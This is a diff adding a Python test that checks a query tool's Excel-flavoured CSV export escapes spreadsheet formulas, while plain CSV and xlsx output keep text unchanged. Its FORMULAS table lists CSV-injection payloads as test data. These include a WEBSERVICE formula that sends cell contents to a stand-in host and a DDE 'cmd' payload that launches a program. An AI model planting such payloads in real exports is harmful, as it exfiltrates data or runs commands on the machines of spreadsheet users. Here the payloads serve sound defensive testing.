@@ -1,5 +1,6 @@
 """Answers in files: whole tables, Excel workbooks whose texts stay texts, endings; and what a query may be given as."""
 
+import csv
 import io
 import tempfile
 from collections.abc import Iterator
@@ -96,6 +97,44 @@ def test_csv_for_excel_has_a_byte_order_mark_and_other_csv_none(here: Chest, lak
     for form, content in {"csv": b"a\n\xc3\xa9\n", "csv-excel": b"\xef\xbb\xbfa\r\n\xc3\xa9\r\n"}.items():
         here("sql", "select 'é' as a", "--lake", lake, "--format", form, "-o", tmp_path / "a.csv")
         assert (tmp_path / "a.csv").read_bytes() == content
+
+
+#: Texts as a bucket may have them, and what a spreadsheet gets of each.
+FORMULAS = {
+    '=WEBSERVICE("http://x/"&A1)': '\'=WEBSERVICE("http://x/"&A1)',
+    "  =1+1": "'  =1+1",
+    "@SUM(A1)": "'@SUM(A1)",
+    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
+    "-2+3": "'-2+3",
+    "\t=1": "'\t'=1",
+    "\r=1": "'\r'=1",
+    "\uff1d1+1": "'\uff1d1+1",
+    "\uff20SUM(A1)": "'\uff20SUM(A1)",
+    "a;=1+1": "a;'=1+1",  # two cells where semicolons separate them
+    'a;"=1+1': "a;'\"=1+1",
+    "a\n=1+1": "a\n'=1+1",
+    "-5": "-5",
+    "+1.5e3": "+1.5e3",
+    "A-B = C; D": "A-B = C; D",
+    "=1": "'=1",
+}
+
+
+def test_excel_runs_no_text_of_the_lake_and_other_csv_has_it_exactly(here: Chest, lake: Path, tmp_path: Path) -> None:
+    texts = ", ".join(f"({place}, '{text.replace(chr(39), chr(39) * 2)}')" for place, text in enumerate(FORMULAS))
+    query = f'select s as "=name", -5 as n, -1.5::decimal(4, 1) as d from (values {texts}) v(i, s) order by i'
+    for form, expected in {"csv": [*FORMULAS], "csv-excel": [*FORMULAS.values()]}.items():
+        done = here("sql", query, "--lake", lake, "--format", form, "-o", tmp_path / "a.csv")
+        assert done.returncode == 0, done.stderr
+        with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as file:
+            head, *rows = csv.reader(file)
+        assert [row[0] for row in rows] == expected
+        assert {tuple(row[1:]) for row in rows} == {("-5", "-1.5")}
+        assert head[0] == ("=name" if form == "csv" else "'=name")
+    here("sql", query, "--lake", lake, "-o", tmp_path / "a.xlsx")
+    _, *cells = openpyxl.load_workbook(tmp_path / "a.xlsx").active.iter_rows()  # type: ignore[union-attr]
+    assert {row[0].data_type for row in cells} == {"s"}
+    assert {row[1].data_type for row in cells} == {"n"}
 
 
 def test_a_query_may_be_a_file_or_stdin(chest: Chest, lake: Path, tmp_path: Path) -> None:
